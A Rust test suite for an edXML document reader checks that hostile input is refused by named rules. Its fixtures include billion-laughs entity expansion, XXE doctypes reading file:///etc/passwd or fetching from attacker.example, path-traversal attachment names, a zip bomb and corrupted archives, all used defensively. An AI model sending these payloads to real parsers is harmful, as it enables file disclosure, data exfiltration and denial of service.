//! Bytes that want to harm: each is refused by its own rule, and nothing is taken from it.

use expect_test::expect;
use truc_edxml::{ReadError, Severity};
use truc_types::Reason;

use crate::support::{Packing, base64, change, codes, new_document, read, report, with_attachment, zip, zip_entry};

/// Refused, with this rule as the only error.
fn check(bytes: impl AsRef<[u8]>, rule: &str) {
    match read(bytes).0 {
        Err(ReadError::Refused { diagnostics, .. }) => {
            let errors = diagnostics.iter().filter(|diagnostic| diagnostic.severity == Severity::Error);
            assert_eq!(errors.map(|diagnostic| diagnostic.rule.code()).collect::<Vec<_>>(), [rule]);
        }
        other => panic!("{rule}: {other:?}"),
    }
}

fn behind_declaration(text: &str) -> String {
    change(&new_document(), "<edXML xmlns", &format!("{text}<edXML xmlns"))
}

#[test]
fn document_types_and_entities_are_refused() {
    let laughs = "<!DOCTYPE x [<!ENTITY a \"haha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>";
    check(behind_declaration(laughs), "edxml.doctype");
    check(behind_declaration("<!DOCTYPE x SYSTEM \"file:///etc/passwd\">"), "edxml.doctype");
    check(behind_declaration("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]>"), "edxml.doctype");
    for entity in ["&xxe;", "&#0;", "&#xFFFF;", "&#x110000;", "&;"] {
        check(change(&new_document(), ">Văn bản mới<", &format!(">{entity}<")), "edxml.entity");
    }
    check(change(&new_document(), "<edXML:MessageHeader>", "<edXML:MessageHeader id=\"&xxe;\">"), "edxml.entity");
}

#[test]
fn malformed_bytes_are_refused_with_their_line() {
    expect![[r#"
        refused
        edxml.not_well_formed: line 3:1, edXML: the XML is not well-formed; found "</x>"; expected </edXML>
    "#]]
    .assert_eq(&report("<?xml version=\"1.0\"?>\n<edXML xmlns=\"http://www.mic.gov.vn/TBT/QCVN_102_2016\">\n</x>"));
    check("", "edxml.truncated");
    check("<?xml version=\"1.0\"?>\n", "edxml.truncated");
    check("hello", "edxml.not_well_formed");
    check("<edXML", "edxml.truncated");
    check("<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"/>", "edxml.former_dialect");
    check("<edXML xmlns=\"http://www.e-doc.vn/Schema/\"/>", "edxml.root");
    check(format!("{}<edXML/>", new_document()), "edxml.two_roots");
    check(format!("{}tail", new_document()), "edxml.two_roots");
    let mut invalid = new_document().into_bytes();
    let at = invalid.windows(3).position(|window| window == b"V/v").unwrap();
    invalid[at] = 0xff;
    check(&invalid, "edxml.encoding");
    invalid[at] = 0;
    check(&invalid, "edxml.control_character");
    check(change(&new_document(), "encoding=\"UTF-8\"", "encoding=\"UTF-16\""), "edxml.encoding");
    let whole = new_document();
    let whole = whole.trim_end();
    for behind in ["<?xml", "<edXML:Sub", "Subject>V/v", "</edXML:Subject", "<edXML:ContentTransferEncoded", "</edXML"] {
        let length = whole.find(behind).unwrap() + behind.len();
        check(&whole[..length], "edxml.truncated");
    }
    check(&whole[..whole.len() - 1], "edxml.truncated");
}

#[test]
fn a_file_that_was_cut_off_is_told_its_end_and_what_is_missing_in_both_languages() {
    let (whole, cut) = (new_document(), "Subject>V/v".len());
    let at = whole.find("Subject>V/v").unwrap() + cut;
    let Err(ReadError::Refused { diagnostics, .. }) = read(&whole[..at]).0 else { panic!("refused") };
    let [found] = diagnostics.as_slice() else { panic!("{diagnostics:?}") };
    assert!(found.found.starts_with('…') && found.found.ends_with("<edXML:Subject>V/v"), "{found:?}");
    let tags = "</edXML:Subject></edXML:MessageHeader></edXML:edXMLHeader></edXML:edXMLEnvelope></edXML>";
    assert_eq!((found.expected.as_str(), found.suggestion.as_deref()), (tags, Some(tags)));
    assert!(
        found.message_vi().contains("tệp bị cắt cụt") && found.message_vi().contains(&format!("nên viết {tags}")),
        "{}",
        found.message_vi()
    );
    assert!(
        found.message_en().contains("it was cut off") && found.message_en().contains(&format!("write {tags}")),
        "{}",
        found.message_en()
    );
}

#[test]
fn what_is_too_much_is_refused_before_it_is_kept() {
    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
    check(behind_root(&deep), "edxml.too_deep");
    check(behind_root(&"<a/>".repeat(20_000)), "edxml.elements_too_many");
    check(behind_root(&format!("<a {}/>", (0..50).map(|n| format!("a{n}=\"\" ")).collect::<String>())), "edxml.attributes_too_many");
    check(behind_root(&format!("<{}/>", "a".repeat(200))), "edxml.not_well_formed");
    check(behind_root(&format!("<a b=\"{}\"/>", "x".repeat(100_000))), "edxml.token_too_long");
    check(behind_root(&format!("<!--{}-->", "x".repeat(100_000))), "edxml.token_too_long");
    check(change(&new_document(), "<edXML:Content>", &format!("<edXML:Content>{}", "x".repeat(100_000))), "edxml.token_too_long");
    check(change(&new_document(), "<edXML:Content>", &format!("<edXML:Content>{}", "x".repeat(2_000))), "edxml.text_too_long");
    let text = format!("<x>{}</x>", "x".repeat(60_000)).repeat(40);
    check(change(&new_document(), "<edXML:MessageHeader>", &format!("<edXML:MessageHeader>{text}")), "edxml.header_too_large");
    let (result, kept) = read(change(&new_document(), "<AttachmentEncoded>", &format!("<AttachmentEncoded>{}", EMPTY.repeat(10_000))));
    assert_eq!(result.unwrap_err().reason(), Some(Reason::AttachmentTooMany));
    assert_eq!(kept.attachments.len(), 30);
}

const EMPTY: &str = "<Attachment><AttachmentName>a.pdf</AttachmentName><ContentTransferEncoded/></Attachment>";

fn behind_root(text: &str) -> String {
    change(&new_document(), "<edXML:edXMLEnvelope", &format!("{text}<edXML:edXMLEnvelope"))
}

#[test]
fn names_are_never_paths() {
    for name in ["../x", "..\\x", "/etc/passwd", "C:x", "a/../../b", ".."] {
        check(with_attachment(name, "application/pdf", "aGVsbG8="), "edxml.name_traversal");
    }
    let archive = zip(&[zip_entry("../x", b"plain", Packing::Deflated)]);
    assert_eq!(codes(with_attachment("a.csv", "application/zip", &base64(&archive))), ["edxml.zip_entry_name"]);
}

#[test]
fn broken_base64_is_refused_and_its_attachment_is_not_ended() {
    for (text, rule) in [
        ("aGVsbG8", "edxml.base64_truncated"),
        ("aGVsbG9=", "edxml.base64_padding"),
        ("aGVsbA=", "edxml.base64_padding"),
        ("aGVs====", "edxml.base64_padding"),
        ("aGVsbA==aGVs", "edxml.base64_padding"),
        ("aGVs*G8=", "edxml.base64_character"),
        ("aGVsđG8=", "edxml.base64_character"),
    ] {
        check(with_attachment("a.pdf", "application/pdf", text), rule);
        assert_eq!(read(with_attachment("a.pdf", "application/pdf", text)).1.ended, 0, "{text}");
    }
    check(with_attachment("a.pdf", "application/pdf", "aGVs<b/>bG8="), "edxml.element_misplaced");
}

#[test]
fn a_fault_of_the_content_is_told_even_when_the_xml_breaks_behind_it() {
    let broken = with_attachment("a.pdf", "application/pdf", "aGVs*G8=</x>");
    let Err(ReadError::Refused { diagnostics, .. }) = read(broken).0 else { panic!("refused") };
    let rules: Vec<&str> = diagnostics.iter().map(|diagnostic| diagnostic.rule.code()).collect();
    assert_eq!(rules, ["edxml.base64_character", "edxml.not_well_formed"]);
}

fn check_archive(archive: &[u8], rule: &str) {
    check(with_attachment("a.csv", "application/zip", &base64(archive)), rule);
}

#[test]
fn bad_archives_are_refused_by_name() {
    let bomb = zip_entry("a", &vec![0; 8 << 20], Packing::Deflated);
    check_archive(&bomb, "edxml.zip_expansion");
    let (result, kept) = read(with_attachment("a.csv", "application/zip", &base64(&bomb)));
    assert_eq!(result.unwrap_err().reason(), Some(Reason::AttachmentTooLarge));
    assert!(kept.attachments[0].len() <= 2 << 20, "stopped early, at {} bytes", kept.attachments[0].len());

    let good = zip_entry("a", b"plain text, plain text", Packing::Deflated);
    let with = |at: usize, byte: u8| {
        let mut archive = good.clone();
        archive[at] = byte;
        archive
    };
    check_archive(&with(6, 1), "edxml.zip_unsupported");
    check_archive(&with(8, 99), "edxml.zip_unsupported");
    check_archive(&with(14, good[14] ^ 1), "edxml.zip_checksum");
    check_archive(&with(31, 0xff), "edxml.zip_corrupt");
    check_archive(&good[..good.len() - 3], "edxml.zip_truncated");
    check_archive(&good[..20], "edxml.zip_truncated");
    check_archive(b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", "edxml.zip_empty");
    let mut stored = zip_entry("a", b"plain", Packing::Stored);
    stored[6] = 8;
    check_archive(&stored, "edxml.zip_unsupported");
    let mut wide = zip_entry("a", b"plain", Packing::Stored);
    wide[18..26].fill(0xff);
    check_archive(&wide, "edxml.zip_unsupported");
}

#[test]
fn ten_thousand_diagnostics_are_counted_and_a_hundred_kept() {
    let unknown = behind_root(&"<strange/>".repeat(9_000));
    let (reading, _) = read(unknown);
    let reading = reading.unwrap();
    assert_eq!((reading.warnings.len(), reading.more_warnings), (100, 8_900));
    match read(change(&behind_root(&"<strange/>".repeat(9_000)), "<edXML:Priority>1<", "<edXML:Priority>9<")).0 {
        Err(ReadError::Refused { diagnostics, more }) => {
            assert_eq!((diagnostics.len(), more), (100, 8_901));
            assert!(diagnostics.iter().any(|diagnostic| diagnostic.rule.code() == "edxml.priority_invalid"), "a refusal says why");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn what_xml_cannot_carry_is_refused_wherever_it_stands() {
    for character in ['\u{1}', '\u{b}', '\u{fffe}', '\u{ffff}'] {
        check(change(&new_document(), ">Văn bản mới<", &format!(">{character}<")), "edxml.control_character");
        check(
            change(
                &new_document(),
                " version=\"1.0\">\n        <edXML:TraceHeader>",
                &format!(" version=\"{character}\">\n        <edXML:TraceHeader>"),
            ),
            "edxml.control_character",
        );
    }
}

#[test]
fn a_sample_cut_anywhere_is_refused() {
    let message = new_document().into_bytes();
    let end = message.len() - "\n".len();
    for length in (0..end).step_by(53).chain(end - 60..end) {
        match read(&message[..length]).0 {
            Err(ReadError::Refused { diagnostics, .. }) => assert!(!diagnostics.is_empty()),
            other => panic!("cut to {length} bytes: {other:?}"),
        }
    }
}

#[test]
fn a_refusal_is_one_sentence_with_or_without_a_path() {
    let text = |bytes: &str| read(bytes).0.unwrap_err().to_string();
    assert_eq!(text("hello"), "the edXML message is refused: edxml.not_well_formed at 1:1");
    assert_eq!(
        text("<edXML xmlns=\"http://www.mic.gov.vn/TBT/QCVN_102_2016\"></x>"),
        "the edXML message is refused: edxml.not_well_formed at 1:56, edXML"
    );
}

#[test]
fn a_refusal_says_where_but_never_what_stands_there() {
    let error = read(change(&new_document(), "<edXML:Subject>", "<edXML:Subject>Mật</edXML:Subject><edXML:Subject>")).0.unwrap_err();
    let refusal = error.refusal().unwrap();
    assert_eq!(refusal.reason, Reason::EdxmlInvalid);
    assert!(!refusal.to_string().contains("Mật") && !format!("{:?}", refusal.values).contains("Mật"));
    assert_eq!(refusal.value("rule"), Some("edxml.element_repeated"));
}
